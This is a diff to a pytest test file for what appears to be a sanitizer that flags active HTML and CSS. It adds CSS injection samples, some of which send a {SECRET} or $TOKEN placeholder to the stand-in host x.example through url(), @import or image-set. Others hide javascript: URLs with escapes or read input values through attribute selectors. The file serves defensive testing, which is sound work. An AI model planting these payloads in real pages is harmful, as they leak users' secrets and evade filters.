@@ -124,7 +124,24 @@ REDIRECTS = {  # what sends the reader, or every relative link of the page, else
     "svg image with a placeholder": '<svg><image href="https://x.example/p?d={SECRET}"/></svg>',
 }
 
-ATTACKS = {**SCRIPT_LINKS, **ELEMENTS, **EXFILTRATING_IMAGES, **REFERENCED_IMAGES, **REDIRECTS}
+STYLES = {  # a stylesheet rules the whole page; a renderer fetches what CSS names unasked
+    "style element": "<style>.review-body { display: none }</style>",
+    "style element importing": "<style>@import url(https://x.example/a.css);</style>",
+    "style element reading the page": '<style>input[value^="a"] { background: url(https://x.example/a) }</style>',
+    "style in svg": "<svg><style>text { fill: red }</style><text>x</text></svg>",
+    "linked stylesheet": '<link rel="stylesheet" href="https://x.example/a.css">',
+    "style attribute with a placeholder": '<div style="background:url(https://x.example/p?d={SECRET})">x</div>',
+    "style attribute with a script url": '<div style="background-image: url(javascript:alert(1))">x</div>',
+    "quoted url in single quotes": "<div style='background:url(\"https://x.example/p?d=$TOKEN\")'>x</div>",
+    "escaped url function": r'<div style="background:u\72l(https://x.example/p?d={SECRET})">x</div>',
+    "escaped scheme": r'<p style="background:url(java\73 cript:alert(1))">x</p>',
+    "comment inside the url": '<div style="background:url(/**/https://x.example/p?d=%s)">x</div>',
+    "references in the attribute": '<div style="background:url(&quot;https://x.example/?d=&#123;S&#125;&quot;)">x</div>',
+    "image set": "<div style=\"background:-webkit-image-set('https://x.example/{SECRET}.png' 1x)\">x</div>",
+    "css expression": '<div style="width: expression(alert(1))">x</div>',
+}
+
+ATTACKS = {**SCRIPT_LINKS, **ELEMENTS, **EXFILTRATING_IMAGES, **REFERENCED_IMAGES, **REDIRECTS, **STYLES}
 
 
 @pytest.mark.parametrize("text", ATTACKS.values(), ids=ATTACKS)
@@ -172,6 +189,12 @@ ORDINARY = {
     "form with a templated action": '<form action="https://example.com/{id}/vote"><button>+1</button></form>',
     "link to a templated address": '<a href="https://example.com/{owner}/{repo}">repo</a>',
     "meta refresh in a fence": '```html\n<meta http-equiv="refresh" content="0;url=/new">\n<base href="/">\n```',
+    "style attributes": '<p align="center" style="color:#555; text-align:center">x</p>'
+                        '<div style="scroll-behavior: smooth; background: url(https://example.com/bg.png)">y</div>',
+    "jsx style": "<div style={{backgroundImage:`url(${img})`}} className=\"hero\">x</div>",
+    "style element in a fence": "```vue\n<style scoped>\n.x { color: red }\n</style>\n```",
+    "icon link": '<link rel="icon" href="https://example.com/favicon.ico">',
+    "tags named like style": "Follow <style-guide> and <styles> in the docs.",
     "image reference in a code span": "Write `![ok][r]` for it.\n\n[r]: https://example.com/{v}/a.png",
 }
 
@@ -211,12 +234,13 @@ def test_a_pathological_text_is_read_in_one_pass(unit: str) -> None:
 # reference image after every definition, references and labels never closed, definitions
 # with nothing after them
 ADVERSARIAL_UNITS = ["[r]: {x}\n![r]", "![r][", "[a", "[a]:\n", "![", "[r]: <{x}\n![r][r]",
-                     "<meta http-equiv=refresh content='", "<base ", "<meta content=0;url= ", "<link href={"]
+                     "<meta http-equiv=refresh content='", "<base ", "<meta content=0;url= ", "<link href={",
+                     '<a style="url(', "<a style='url(\"", '<a style="/*', '<a style="\\', '<a style="u\\72l( ']
 
 
 @pytest.mark.parametrize("unit", ADVERSARIAL_UNITS)
 def test_each_url_label_and_tag_is_judged_a_bounded_number_of_times(unit: str, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Counted, not timed: ten times the text hands the judges at most ten times the characters,
+    """Counted, not timed: ten times the text hands the judges about ten times the characters,
     and never more than a few times the text itself: nothing is compared with every later one."""
     looked_at = [0]
 
@@ -226,7 +250,7 @@ def test_each_url_label_and_tag_is_judged_a_bounded_number_of_times(unit: str, m
             return judge(*values)
         return judged
 
-    for name in ("asks_for_data", "is_script_url", "_label", "_any_acts", "_refresh_url"):
+    for name in ("asks_for_data", "is_script_url", "_label", "_any_acts", "_refresh_url", "css_acts"):
         monkeypatch.setattr(active_module, name, counting(getattr(active_module, name)))
 
     def characters(size: int) -> int:
@@ -235,7 +259,7 @@ def test_each_url_label_and_tag_is_judged_a_bounded_number_of_times(unit: str, m
         return looked_at[0]
 
     small, large = characters(20_000), characters(200_000)
-    assert large <= 10 * small + 100 and large <= 3 * 200_000, (small, large)
+    assert large <= 12 * small and large <= 3 * 200_000, (small, large)
 
 
 # --- real material: review payloads and sessions ------------------------------------------------
